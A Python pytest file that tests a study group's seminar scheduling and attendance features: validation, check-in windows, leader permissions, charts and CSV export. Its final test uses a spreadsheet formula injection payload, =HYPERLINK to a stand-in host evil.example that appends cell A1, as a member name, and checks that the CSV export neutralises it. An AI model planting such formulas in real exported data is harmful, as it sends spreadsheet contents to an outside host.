"""Seminars and attendance: validation, next-seminar, leader marking, self check-in window,
charts and CSV."""

import json
from datetime import UTC, date, datetime, time, timedelta
from zoneinfo import ZoneInfo

import pytest

from core.curriculum import attendance, seminars
from core.curriculum import weeks as cur
from core.errors import InvalidInput, PermissionDenied
from core.timezone import group_to_utc, to_group
from core.validate import FieldError
from tests.support.factories import make_leader, make_member

START = datetime(2025, 4, 10, 10, 0, tzinfo=UTC)  # 19:00 in Seoul


@pytest.fixture
def setup(db):
    leader = make_leader(db)
    member = make_member(db, "minjun", "이민준", by=leader)
    with db.write() as s:
        week = cur.create_week(session=s, by=leader, title_ko="트랜스포머")
        sem = seminars.create_seminar(
            session=s,
            by=leader,
            title="Attention Is All You Need",
            starts_at=START,
            duration_min=90,
            presenter_id=member.id,
            week_id=week.id,
            paper_url="https://arxiv.org/abs/1706.03762",
        )
    return leader, member, week, sem


def test_local_time_is_seoul():
    seoul = ZoneInfo("Asia/Seoul")
    assert group_to_utc(date(2025, 4, 10), time(19, 0), seoul) == START
    assert to_group(START, seoul).hour == 19


@pytest.mark.parametrize(
    "kwargs, field",
    [
        ({"title": ""}, "cur.seminar.title"),
        ({"presenter_id": 99999}, "cur.seminar.presenter"),
        ({"slides_url": "ftp://example.com/s.pdf"}, "cur.seminar.slides_url"),
        ({"link": "zoom.us/j/1"}, "cur.seminar.link"),
        ({"duration_min": 0}, "cur.seminar.duration"),
    ],
)
def test_bad_seminar_input(db, setup, kwargs, field):
    leader = setup[0]
    args = {"title": "세미나", "starts_at": START} | kwargs
    with pytest.raises(FieldError) as err, db.write() as s:
        seminars.create_seminar(session=s, by=leader, **args)
    assert err.value.field == field


def test_inactive_presenter_is_unknown(db, setup):
    leader, member, _, sem = setup
    from core.accounts import members

    with db.write() as s:
        m = members.get_member(session=s, member_id=member.id)
        members.update_member(session=s, by=leader, member_id=m.id, expected_version=m.version, active=False)
    with pytest.raises(FieldError) as err, db.write() as s:
        seminars.update_seminar(
            session=s,
            by=leader,
            seminar_id=sem.id,
            expected_version=sem.version,
            title="x",
            starts_at=START,
            presenter_id=member.id,
        )
    assert "활성 멤버" in err.value.message("ko")


def test_members_cannot_schedule(db, setup):
    _, member, _, _ = setup
    with pytest.raises(PermissionDenied), db.write() as s:
        seminars.create_seminar(session=s, by=member, title="x", starts_at=START)


def test_next_seminar_is_the_one_on_now_or_the_next(db, setup):
    leader, _, _, sem = setup
    with db.write() as s:
        later = seminars.create_seminar(
            session=s, by=leader, title="later", starts_at=START + timedelta(days=7)
        )
    with db.read() as s:
        assert seminars.next_seminar(session=s, now=START - timedelta(days=1)).id == sem.id
        assert seminars.next_seminar(session=s, now=START + timedelta(minutes=80)).id == sem.id
        assert seminars.next_seminar(session=s, now=START + timedelta(minutes=91)).id == later.id
        assert seminars.next_seminar(session=s, now=START + timedelta(days=30)) is None


def test_stale_seminar_edit(db, setup):
    leader, _, _, sem = setup
    with db.write() as s:
        seminars.update_seminar(
            session=s,
            by=leader,
            seminar_id=sem.id,
            expected_version=sem.version,
            title="새 제목",
            starts_at=START,
        )
    from core.errors import StaleEdit

    with pytest.raises(StaleEdit) as err, db.write() as s:
        seminars.update_seminar(
            session=s,
            by=leader,
            seminar_id=sem.id,
            expected_version=sem.version,
            title="옛 판에서 고침",
            starts_at=START,
        )
    assert err.value.current.title == "새 제목"


@pytest.mark.parametrize("minutes, status", [(-30, "present"), (10, "present"), (11, "late"), (90, "late")])
def test_self_check_in_inside_the_window(db, setup, minutes, status):
    _, member, _, sem = setup
    row = attendance.check_in(
        db=db, by=member, code=sem.checkin_code, seminar_id=sem.id, now=START + timedelta(minutes=minutes)
    )
    assert (row.status, row.self_checked_in) == (status, True)


@pytest.mark.parametrize("minutes", [-31, 91, 60 * 24])
def test_self_check_in_outside_the_window_is_refused(db, setup, minutes):
    _, member, _, sem = setup
    with pytest.raises(InvalidInput) as err:
        attendance.check_in(
            db=db, by=member, code=sem.checkin_code, seminar_id=sem.id, now=START + timedelta(minutes=minutes)
        )
    assert "18:30" in err.value.message("ko")  # opens 30 minutes before 19:00 Seoul time


def test_check_in_twice_and_guest_refused(db, setup):
    _, member, _, sem = setup
    attendance.check_in(db=db, by=member, code=sem.checkin_code, seminar_id=sem.id, now=START)
    with pytest.raises(InvalidInput) as err:
        attendance.check_in(db=db, by=member, code=sem.checkin_code, seminar_id=sem.id, now=START)
    assert err.value.key == "cur.error.already_marked"
    with pytest.raises(PermissionDenied):
        attendance.check_in(db=db, by=None, code=sem.checkin_code, seminar_id=sem.id, now=START)


def test_leader_marks_and_overrides_member_cannot(db, setup):
    leader, member, _, sem = setup
    attendance.check_in(
        db=db, by=member, code=sem.checkin_code, seminar_id=sem.id, now=START + timedelta(minutes=30)
    )
    with db.write() as s:
        attendance.mark(session=s, by=leader, seminar_id=sem.id, member_id=member.id, status="excused")
        attendance.mark(session=s, by=leader, seminar_id=sem.id, member_id=leader.id, status="present")
    with pytest.raises(PermissionDenied), db.write() as s:
        attendance.mark(session=s, by=member, seminar_id=sem.id, member_id=member.id, status="present")
    with pytest.raises(FieldError), db.write() as s:
        attendance.mark(session=s, by=leader, seminar_id=sem.id, member_id=member.id, status="maybe")
    with db.read() as s:
        rows = attendance.for_seminar(session=s, by=leader, seminar_id=sem.id)
    assert {m: r.status for m, r in rows.items()} == {member.id: "excused", leader.id: "present"}


def test_chart_and_csv(db, setup):
    leader, member, _, sem = setup
    with db.write() as s:
        attendance.mark(session=s, by=leader, seminar_id=sem.id, member_id=member.id, status="late")
        attendance.mark(session=s, by=leader, seminar_id=sem.id, member_id=leader.id, status="present")
    with db.read() as s:
        df = attendance.frame(session=s, by=leader, lang="en")
    assert sorted(df["status"]) == ["late", "present"]
    assert set(df["week"]) == {"Week 1"}
    spec = attendance.by_member_chart(df, "ko").to_dict()
    assert spec["encoding"]["y"]["field"] == "member"
    assert spec["encoding"]["color"]["scale"]["domain"] == ["출석", "지각", "결석", "공결"]
    week_spec = json.dumps(attendance.by_week_chart(df, "en").to_dict())
    assert "Attendance per week" in week_spec
    csv = attendance.to_csv(df, "ko").decode("utf-8-sig")
    header, *lines = csv.strip().splitlines()
    assert header.split(",")[:2] == ["세미나 제목", "날짜"]
    assert any("이민준" in ln and "지각" in ln for ln in lines)


def test_attendance_charts_count_in_whole_numbers(db, setup):
    leader, member, _, sem = setup
    with db.write() as s:
        attendance.mark(session=s, by=leader, seminar_id=sem.id, member_id=member.id, status="late")
    with db.read() as s:
        df = attendance.frame(session=s, by=leader, lang="ko")
    # one mark: a count axis of 0 ... 1 would otherwise tick 0.1, 0.2, ... 0.9
    by_member = attendance.by_member_chart(df, "ko").to_dict()["encoding"]["x"]
    by_week = attendance.by_week_chart(df, "ko").to_dict()["encoding"]["y"]
    for count in (by_member, by_week):
        assert count["aggregate"] == "count"
        assert count["axis"]["tickMinStep"] == 1 and count["axis"]["format"] == "d"


def test_attendance_csv_keeps_a_formula_written_as_a_name_as_text(db, setup):
    leader, _, _, sem = setup
    evil = make_member(db, "evil", '=HYPERLINK("http://evil.example/?"&A1,"click")', by=leader)
    with db.write() as s:
        attendance.mark(session=s, by=leader, seminar_id=sem.id, member_id=evil.id, status="present")
    with db.read() as s:
        df = attendance.frame(session=s, by=leader, lang="en")
    cells = [row.split(",", 3)[3] for row in attendance.to_csv(df, "en").decode("utf-8-sig").splitlines()[1:]]
    assert any(c.startswith("\"'=HYPERLINK(") for c in cells)
    assert not any(c.startswith(("=", '"=')) for c in cells)
